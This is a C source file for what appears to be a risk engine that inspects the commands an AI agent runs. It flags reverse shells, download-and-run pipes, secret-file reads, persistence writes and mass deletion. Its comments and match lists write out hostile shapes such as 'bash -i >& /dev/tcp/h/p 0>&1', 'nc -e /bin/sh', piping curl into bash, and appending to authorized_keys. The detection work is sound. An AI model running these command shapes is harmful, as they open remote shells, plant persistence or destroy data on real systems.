/* Rules over exec events: the argv of each program the agent runs, and
 * for `sh -c SCRIPT` the script's pipelines. Each shape is looked for in one
 * place only (a pipe in the script, a tool in the argv), so `sh -c 'nmap x'`
 * gives one finding, not two. */
#include "govern/rule.h"

#include <stdio.h>
#include <string.h>
#include <strings.h>

#include "util/cleanup.h"

static bool is_option(const char *arg)
{
        return arg[0] == '-' && arg[1] != '\0';
}

/* ------------------------------------------------------------ single tools */

static void check_search(struct risk_engine *engine, const struct rule_event *e)
{
        const char *needle = NULL;
        bool broad = false;
        char resolved[RULE_PATH_MAX];
        for (int i = 1; i < e->argc; i++) {
                if (!needle)
                        needle = rule_key_material(e->argv[i]);
                if (!broad && !is_option(e->argv[i]) &&
                    rule_path_resolve(e->cwd, e->argv[i], resolved, sizeof(resolved)))
                        broad = rule_is_broad_root(resolved);
        }
        if (needle && broad) {
                char detail[128];
                snprintf(detail, sizeof(detail), "%s for '%s' over a home or system tree",
                         e->command, needle);
                rule_fire(engine, RULE_CREDENTIAL_HUNT, e, detail, NULL, 0);
        }
}

static void check_proc_snoop(struct risk_engine *engine, const struct rule_event *e)
{
        for (int i = 1; i < e->argc; i++) {
                const char *p = strstr(e->argv[i], "/proc/");
                if (!p)
                        continue;
                p += 6;
                if (strncmp(p, "self/", 5) == 0 || strncmp(p, "thread-self/", 12) == 0)
                        continue;
                const char *slash = strchr(p, '/');
                if (slash && (strcmp(slash, "/environ") == 0 || strcmp(slash, "/mem") == 0)) {
                        rule_fire(engine, RULE_PROC_SNOOP, e, e->argv[i], NULL, 0);
                        return;
                }
        }
}

static void check_secret_read(struct risk_engine *engine, const struct rule_event *e)
{
        for (int i = 1; i < e->argc; i++) {
                const char *arg = e->argv[i];
                if (arg[0] == '@') /* curl -d @file / -F x=@file uploads the file */
                        arg++;
                else if ((e->command_class & CMD_FETCH) && strstr(arg, "=@"))
                        arg = strstr(arg, "=@") + 2;
                else if (is_option(arg))
                        continue;
                if (!rule_is_secret_path(arg))
                        continue;
                engine->secret_read = true;
                engine->secret_read_ms = e->now_ms;
                engine->secret_evidence = e->evidence;
                snprintf(engine->secret_path, sizeof(engine->secret_path), "%s", arg);
                return;
        }
}

/* Where curl -o / -O and wget -O / (default) write, made absolute. */
static void record_fetch(struct risk_engine *engine, const struct rule_event *e)
{
        bool curl = strcmp(e->command, "curl") == 0;
        const char *output = NULL, *url = NULL, *prefix = NULL;
        bool remote_name = !curl; /* wget saves under the URL's name by default */
        for (int i = 1; i < e->argc; i++) {
                const char *a = e->argv[i], *next = i + 1 < e->argc ? e->argv[i + 1] : NULL;
                size_t n = strlen(a);
                if (strstr(a, "://")) {
                        url = a;
                } else if (strncmp(a, "--output-document=", 18) == 0) {
                        output = a + 18;
                } else if (strncmp(a, "--directory-prefix=", 19) == 0) {
                        prefix = a + 19;
                } else if (strcmp(a, "--output") == 0 || strcmp(a, "--output-document") == 0) {
                        output = next;
                        i++;
                } else if (curl && (strcmp(a, "--remote-name") == 0 ||
                                    strcmp(a, "--remote-name-all") == 0)) {
                        remote_name = true;
                } else if (a[0] == '-' && a[1] != '-' && n >= 2) {
                        /* a cluster like -sSLo FILE: the last letter takes the value */
                        char out_flag = curl ? 'o' : 'O';
                        const char *flag = strchr(a + 1, out_flag);
                        if (curl && strchr(a + 1, 'O'))
                                remote_name = true;
                        if (!curl && strchr(a + 1, 'P') && a[n - 1] == 'P') {
                                prefix = next;
                                i++;
                        } else if (flag && flag[1] != '\0') {
                                output = flag + 1;
                        } else if (flag) {
                                output = next;
                                i++;
                        }
                }
        }
        char name[RULE_PATH_MAX];
        if (output) {
                if (strcmp(output, "-") == 0)
                        return;
                snprintf(name, sizeof(name), "%s", output);
        } else if (remote_name && url) {
                const char *path = strstr(url, "://") + 3;
                path = strchr(path, '/');
                const char *base = path ? rule_basename(path) : "";
                size_t len = strcspn(base, "?#");
                if (len == 0)
                        snprintf(name, sizeof(name), "index.html");
                else
                        snprintf(name, sizeof(name), "%.*s", (int)len, base);
                if (prefix) {
                        char joined[RULE_PATH_MAX];
                        snprintf(joined, sizeof(joined), "%s/%s", prefix, name);
                        snprintf(name, sizeof(name), "%s", joined);
                }
        } else {
                return;
        }
        char *slot = engine->fetched[engine->fetched_head];
        if (rule_path_resolve(e->cwd, name, slot, RULE_PATH_MAX))
                engine->fetched_head = (engine->fetched_head + 1) % RULE_FETCHED_MAX;
        else
                slot[0] = '\0';
}

static bool was_fetched(const struct risk_engine *engine, const char *cwd, const char *path)
{
        char resolved[RULE_PATH_MAX];
        if (!path || !rule_path_resolve(cwd, path, resolved, sizeof(resolved)))
                return false;
        for (int i = 0; i < RULE_FETCHED_MAX; i++)
                if (engine->fetched[i][0] && strcmp(engine->fetched[i], resolved) == 0)
                        return true;
        return false;
}

static void check_run_fetched(struct risk_engine *engine, const struct rule_event *e)
{
        const char *hit = NULL;
        if (was_fetched(engine, e->cwd, e->path))
                hit = e->path;
        if (!hit && (e->command_class & CMD_INTERPRETER)) {
                /* sh ./install.sh, python3 get.py: the script is the program */
                for (int i = 1; i < e->argc && !hit; i++) {
                        const char *a = e->argv[i];
                        if (strcmp(a, "-c") == 0 || strcmp(a, "-e") == 0)
                                return;
                        if (is_option(a))
                                continue;
                        if (was_fetched(engine, e->cwd, a))
                                hit = a;
                        break;
                }
        }
        if (hit)
                rule_fire(engine, RULE_RUN_FETCHED, e, hit, NULL, 0);
}

/* chmod MODE FILE...: a mode that adds execute (+x, u+x, a+rx, 755, 0700...) */
static bool mode_adds_exec(const char *mode)
{
        if (mode[0] >= '0' && mode[0] <= '7') {
                for (const char *p = mode; *p; p++)
                        if (*p < '0' || *p > '7')
                                return false;
                for (const char *p = mode + (strlen(mode) > 3 ? strlen(mode) - 3 : 0); *p; p++)
                        if ((*p - '0') & 1)
                                return true;
                return false;
        }
        const char *plus = strchr(mode, '+');
        return plus && strchr(plus, 'x') != NULL;
}

static void record_chmod(struct risk_engine *engine, const struct rule_event *e)
{
        if (strcmp(e->command, "chmod") != 0 || e->argc < 3)
                return;
        int i = 1;
        while (i < e->argc && e->argv[i][0] == '-' && e->argv[i][1] != 'x' && e->argv[i][1] != 'r')
                i++; /* -R, -v... (but "-x" is a mode) */
        if (i >= e->argc - 1 || !mode_adds_exec(e->argv[i]))
                return;
        for (i++; i < e->argc; i++) {
                char *slot = engine->dropped[engine->dropped_head];
                if (rule_path_resolve(e->cwd, e->argv[i], slot, RULE_PATH_MAX))
                        engine->dropped_head = (engine->dropped_head + 1) % RULE_FETCHED_MAX;
                else
                        slot[0] = '\0';
        }
}

/* A program made executable and run from a staging place (/tmp, /dev/shm,
 * the home directory): the dropper's shape. The same in the workspace is a
 * developer's build script, and not a finding. */
static void check_drop_exec(struct risk_engine *engine, const struct rule_event *e)
{
        char resolved[RULE_PATH_MAX];
        if (!e->path || !rule_path_resolve(e->cwd, e->path, resolved, sizeof(resolved)))
                return;
        size_t ws = strlen(engine->workspace);
        if (ws > 1 && strncmp(resolved, engine->workspace, ws) == 0 && resolved[ws] == '/')
                return;
        for (int i = 0; i < RULE_FETCHED_MAX; i++)
                if (engine->dropped[i][0] && strcmp(engine->dropped[i], resolved) == 0) {
                        rule_fire(engine, RULE_DROP_EXEC, e, e->path, NULL, 0);
                        return;
                }
}

static bool persistence_target(const struct rule_event *e, int index)
{
        char resolved[RULE_PATH_MAX];
        const char *arg = e->argv[index];
        if (rule_is_persistence_path(arg))
                return true;
        return rule_path_resolve(e->cwd, arg, resolved, sizeof(resolved)) &&
               rule_is_persistence_path(resolved);
}

static void check_persistence(struct risk_engine *engine, const struct rule_event *e)
{
        const char *hit = NULL;
        const char *cmd = e->command;
        if (e->command_class & CMD_CRONTAB) {
                bool list_only = false;
                for (int i = 1; i < e->argc; i++)
                        if (strcmp(e->argv[i], "-l") == 0)
                                list_only = true;
                if (!list_only)
                        hit = "crontab";
        } else if (strcmp(cmd, "tee") == 0 || strcmp(cmd, "sed") == 0) {
                bool in_place = strcmp(cmd, "tee") == 0;
                for (int i = 1; i < e->argc && !hit; i++) {
                        const char *a = e->argv[i];
                        if (strncmp(a, "-i", 2) == 0 || strncmp(a, "--in-place", 10) == 0)
                                in_place = true;
                        else if (in_place && !is_option(a) && persistence_target(e, i))
                                hit = a;
                }
        } else if (strcmp(cmd, "dd") == 0) {
                for (int i = 1; i < e->argc && !hit; i++)
                        if (strncmp(e->argv[i], "of=", 3) == 0 &&
                            rule_is_persistence_path(e->argv[i] + 3))
                                hit = e->argv[i];
        } else if (e->argc >= 3) { /* cp, mv, install, ln, rsync: the last argument */
                int last = e->argc - 1;
                if (persistence_target(e, last))
                        hit = e->argv[last];
                else if (!is_option(e->argv[last - 1])) {
                        /* cp key ~/.ssh/: the target is the directory */
                        char joined[RULE_PATH_MAX];
                        snprintf(joined, sizeof(joined), "%s/%s", e->argv[last],
                                 rule_basename(e->argv[last - 1]));
                        if (rule_is_persistence_path(joined))
                                hit = e->argv[last];
                }
        }
        if (hit) {
                char detail[RULE_PATH_MAX];
                snprintf(detail, sizeof(detail), "%s %s", cmd, hit);
                rule_fire(engine, RULE_PERSISTENCE, e, detail, NULL, 0);
        }
}

static bool recursive_flag(const char *arg)
{
        if (strcmp(arg, "--recursive") == 0)
                return true;
        return arg[0] == '-' && arg[1] != '-' && (strchr(arg, 'r') || strchr(arg, 'R'));
}

/* Deleting the workspace, anything above it, a home or a system tree. */
static bool catastrophic_target(const struct risk_engine *engine, const char *cwd, const char *arg)
{
        char resolved[RULE_PATH_MAX];
        if (!rule_path_resolve(cwd, arg, resolved, sizeof(resolved)))
                return false;
        if (rule_is_broad_root(resolved))
                return true;
        size_t n = strlen(resolved);
        return engine->workspace[0] && strncmp(engine->workspace, resolved, n) == 0 &&
               (engine->workspace[n] == '\0' || engine->workspace[n] == '/');
}

static void check_deletion(struct risk_engine *engine, const struct rule_event *e)
{
        bool recursive = false, filtered = false, find_delete = false;
        int counted = 0, looked = 0;
        const char *catastrophe = NULL;
        bool find = e->command_class & CMD_FIND;
        for (int i = 1; i < e->argc; i++) {
                const char *a = e->argv[i];
                if (find) {
                        if (strcmp(a, "-delete") == 0)
                                find_delete = true;
                        else if (strcmp(a, "-name") == 0 || strcmp(a, "-iname") == 0 ||
                                 strcmp(a, "-path") == 0 || strcmp(a, "-regex") == 0 ||
                                 strcmp(a, "-newer") == 0 || strcmp(a, "-mtime") == 0 ||
                                 strcmp(a, "-mmin") == 0 || strcmp(a, "-empty") == 0)
                                filtered = true;
                        continue;
                }
                if (is_option(a)) {
                        recursive |= recursive_flag(a);
                        continue;
                }
                looked++;
                if (!rule_is_disposable(a))
                        counted++;
        }
        if (find) {
                /* `find DIR -delete` with no filter is `rm -rf DIR` */
                if (find_delete && !filtered && e->argc > 1 && !is_option(e->argv[1]) &&
                    catastrophic_target(engine, e->cwd, e->argv[1]))
                        catastrophe = e->argv[1];
        } else if (recursive) {
                for (int i = 1; i < e->argc && !catastrophe; i++)
                        if (!is_option(e->argv[i]) &&
                            catastrophic_target(engine, e->cwd, e->argv[i]))
                                catastrophe = e->argv[i];
        }
        char detail[RULE_PATH_MAX];
        if (catastrophe) {
                snprintf(detail, sizeof(detail), "%s of %s", e->command, catastrophe);
                rule_fire(engine, RULE_MASS_DELETION, e, detail, NULL, 0);
                return;
        }
        if (!counted)
                return;
        /* counted in time buckets, not per event: `find -exec rm {} \;`
         * is one exec per file */
        const struct rule_state *s = &engine->rules[RULE_MASS_DELETION];
        int64_t paths = rule_count_with_dropped(e, counted, looked);
        rule_window_add(&engine->deletions, e->now_ms, paths, &e->evidence);
        rule_counter_add(&engine->deleted, s->window_ms, e->now_ms, paths);
        int64_t total = rule_counter_sum(&engine->deleted, s->window_ms, e->now_ms);
        if (total < s->threshold)
                return;
        snprintf(detail, sizeof(detail), "%lld paths deleted", (long long)total);
        rule_fire_count(engine, RULE_MASS_DELETION, e, &engine->deletions, detail);
        rule_counter_clear(&engine->deleted);
}

/* nc -e /bin/sh, ncat --sh-exec, socat exec:… tcp:…, python -c 'socket…pty' */
static void check_reverse_shell_argv(struct risk_engine *engine, const struct rule_event *e)
{
        const char *hit = NULL;
        if (e->command_class & CMD_NETCAT) {
                for (int i = 1; i < e->argc && !hit; i++) {
                        const char *a = e->argv[i];
                        if (strcmp(a, "--exec") == 0 || strcmp(a, "--sh-exec") == 0 ||
                            strcmp(a, "--lua-exec") == 0 || strcmp(a, "-c") == 0 ||
                            (a[0] == '-' && a[1] != '-' && strchr(a, 'e')))
                                hit = "netcat with a program on the socket";
                }
        } else if (e->command_class & CMD_SOCAT) {
                bool program = false, tcp = false;
                for (int i = 1; i < e->argc; i++) {
                        program |= rule_contains_nocase(e->argv[i], "exec:") ||
                                   rule_contains_nocase(e->argv[i], "system:");
                        tcp |= rule_contains_nocase(e->argv[i], "tcp") ||
                               rule_contains_nocase(e->argv[i], "udp");
                }
                if (program && tcp)
                        hit = "socat joining a program to a socket";
        } else if ((e->command_class & CMD_INTERPRETER) && !(e->command_class & CMD_SHELL)) {
                static const char *const with[] = {"pty",       "subprocess", "/bin/sh",
                                                   "/bin/bash", "dup2",       "child_process",
                                                   "exec(",     "popen",      "system("};
                for (int i = 1; i + 1 < e->argc && !hit; i++) {
                        const char *a = e->argv[i];
                        if (strcmp(a, "-c") && strcmp(a, "-e") && strcmp(a, "-r") &&
                            strcmp(a, "-E"))
                                continue;
                        const char *code = e->argv[i + 1];
                        if (!rule_contains_nocase(code, "socket") &&
                            !rule_contains(code, "fsockopen"))
                                continue;
                        for (size_t k = 0; k < ARRAY_SIZE(with) && !hit; k++)
                                if (rule_contains(code, with[k]))
                                        hit = "interpreter one-liner with a socket and a shell";
                }
        }
        if (hit)
                rule_fire(engine, RULE_REVERSE_SHELL, e, hit, NULL, 0);
}

/* ------------------------------------------------------------ scripts */

static bool decoding(const struct rule_stage *s)
{
        if (!(s->command_class & CMD_DECODE))
                return false;
        return rule_stage_has_word(s, "-d") || rule_stage_has_word(s, "--decode") ||
               rule_stage_has_word(s, "-D") || rule_stage_has_word(s, "-r") ||
               rule_stage_has_word(s, "-rp") || rule_stage_has_word(s, "-di");
}

/* Ends in "$(" "<(" or "`": the next stage's output becomes this one's input. */
static bool substitutes(const struct rule_stage *s)
{
        return (s->end[0] == '(' && (s->end[-1] == '$' || s->end[-1] == '<')) || s->end[0] == '`';
}

static void check_script_pipes(struct risk_engine *engine, const struct rule_event *e,
                               const struct rule_stage *st, int n)
{
        bool download = false, decode = false, reverse = false;
        for (int i = 0; i < n; i++) {
                bool fetch = st[i].command_class & CMD_FETCH, dec = decoding(&st[i]);
                if (fetch || dec) {
                        for (int j = i + 1; j < n && st[j].pipeline == st[i].pipeline; j++)
                                if (st[j].command_class & CMD_INTERPRETER) {
                                        download |= fetch;
                                        decode |= dec;
                                }
                }
                /* bash -c "$(curl …)", bash <(curl …), eval "$(echo … | base64 -d)" */
                if ((st[i].command_class & CMD_INTERPRETER) && substitutes(&st[i])) {
                        for (int j = i + 1; j < n && j <= i + 3; j++) {
                                download |= (st[j].command_class & CMD_FETCH) != 0;
                                decode |= decoding(&st[j]);
                        }
                }
                /* cat f | sh -i 2>&1 | nc host port > f */
                if (st[i].command_class & CMD_SHELL)
                        for (int j = 0; j < n; j++)
                                if (st[j].pipeline == st[i].pipeline &&
                                    (st[j].command_class & (CMD_NETCAT | CMD_TELNET)))
                                        reverse = true;
        }
        if (download)
                rule_fire(engine, RULE_DOWNLOAD_RUN, e, "fetch piped into an interpreter", NULL, 0);
        if (decode)
                rule_fire(engine, RULE_DECODE_RUN, e, "decode piped into an interpreter", NULL, 0);
        if (reverse)
                rule_fire(engine, RULE_REVERSE_SHELL, e, "shell in a pipeline with a socket tool",
                          NULL, 0);
}

static void check_script_text(struct risk_engine *engine, const struct rule_event *e,
                              const char *script)
{
        /* bash -i >& /dev/tcp/h/p 0>&1; exec 5<>/dev/tcp/h/p. A bare
         * `echo > /dev/tcp/h/p` is a port check and stays quiet. */
        if ((strstr(script, "/dev/tcp/") || strstr(script, "/dev/udp/")) &&
            (strstr(script, "0>&1") || strstr(script, "<&") || strstr(script, "<>") ||
             strstr(script, " -i")))
                rule_fire(engine, RULE_REVERSE_SHELL, e, "shell redirected to /dev/tcp", NULL, 0);

        /* echo key >> ~/.ssh/authorized_keys: the redirect is the write */
        for (const char *p = strchr(script, '>'); p; p = strchr(p + 1, '>')) {
                const char *q = p;
                while (*q == '>' || *q == '|')
                        q++;
                if (*q == '&')
                        continue;
                while (*q == ' ' || *q == '\t' || *q == '"' || *q == '\'')
                        q++;
                size_t len = strcspn(q, " \t\n;|&\"')");
                if (len == 0 || len >= RULE_PATH_MAX)
                        continue;
                char target[RULE_PATH_MAX];
                memcpy(target, q, len);
                target[len] = '\0';
                char resolved[RULE_PATH_MAX];
                if (rule_is_persistence_path(target) ||
                    (rule_path_resolve(e->cwd, target, resolved, sizeof(resolved)) &&
                     rule_is_persistence_path(resolved))) {
                        char detail[RULE_PATH_MAX + 16];
                        snprintf(detail, sizeof(detail), "redirect to %s", target);
                        rule_fire(engine, RULE_PERSISTENCE, e, detail, NULL, 0);
                        break;
                }
        }
}

/* rm -rf * / ~ / $HOME in a script: the shell expands it before rm's argv
 * shows anything catastrophic. */
static void check_script_deletion(struct risk_engine *engine, const struct rule_event *e,
                                  const struct rule_stage *st, int n)
{
        static const char *const targets[] = {"*",    "./*",    "~",  "~/",    "~/*",     "/",
                                              "/*",   ".",      "./", "$HOME", "${HOME}", "$HOME/*",
                                              "$PWD", "${PWD}", "..", "../*"};
        for (int i = 0; i < n; i++) {
                if (!(st[i].command_class & CMD_RM))
                        continue;
                bool recursive =
                    rule_stage_has_word(&st[i], "-rf") || rule_stage_has_word(&st[i], "-fr") ||
                    rule_stage_has_word(&st[i], "-r") || rule_stage_has_word(&st[i], "-R") ||
                    rule_stage_has_word(&st[i], "-Rf") ||
                    rule_stage_has_word(&st[i], "--recursive");
                if (!recursive)
                        continue;
                for (size_t k = 0; k < ARRAY_SIZE(targets); k++)
                        if (rule_stage_has_word(&st[i], targets[k])) {
                                char detail[64];
                                snprintf(detail, sizeof(detail), "rm -r %s in a script",
                                         targets[k]);
                                rule_fire(engine, RULE_MASS_DELETION, e, detail, NULL, 0);
                                return;
                        }
        }
}

/* The script of `sh -c SCRIPT` (also -lc, -ec, `busybox sh -c`). */
static const char *shell_script(const struct rule_event *e)
{
        for (int i = 1; i + 1 < e->argc; i++) {
                const char *a = e->argv[i];
                if (a[0] == '-' && a[1] != '-' && strchr(a, 'c'))
                        return e->argv[i + 1];
                if (!is_option(a) && !(i == 1 && strcmp(e->command, "busybox") == 0))
                        return NULL;
        }
        return NULL;
}

static void check_script(struct risk_engine *engine, const struct rule_event *e)
{
        const char *script = shell_script(e);
        if (!script)
                return;
        struct rule_stage stages[RULE_STAGES_MAX];
        int n = rule_script_stages(script, stages, RULE_STAGES_MAX);
        check_script_pipes(engine, e, stages, n);
        check_script_text(engine, e, script);
        check_script_deletion(engine, e, stages, n);
}

/* ------------------------------------------------------------ dispatch */

void rule_exec(struct risk_engine *engine, const struct rule_event *e)
{
        unsigned cls = e->command_class;
        if (cls & CMD_RECON)
                rule_fire(engine, RULE_RECON, e, e->command, NULL, 0);
        /* `mount` alone lists mounts; with arguments it tries one */
        if ((cls & CMD_ESCAPE) && (e->argc > 1 || strcmp(e->command, "mount") != 0))
                rule_fire(engine, RULE_ESCAPE, e, e->command, NULL, 0);
        if (cls & CMD_SEARCH)
                check_search(engine, e);
        if (cls & (CMD_READER | CMD_SEARCH | CMD_FETCH))
                check_secret_read(engine, e);
        if (e->argc > 1)
                check_proc_snoop(engine, e);
        if (cls & CMD_FETCH)
                record_fetch(engine, e);
        check_run_fetched(engine, e);
        check_drop_exec(engine, e);
        record_chmod(engine, e);
        if (cls & (CMD_WRITER | CMD_CRONTAB))
                check_persistence(engine, e);
        if (cls & (CMD_RM | CMD_FIND))
                check_deletion(engine, e);
        if (cls & (CMD_REWRITE | CMD_RM | CMD_WRITER))
                rule_rewrite(engine, e);
        if (cls & (CMD_NETCAT | CMD_SOCAT | CMD_INTERPRETER))
                check_reverse_shell_argv(engine, e);
        if (cls & CMD_SHELL)
                check_script(engine, e);
}
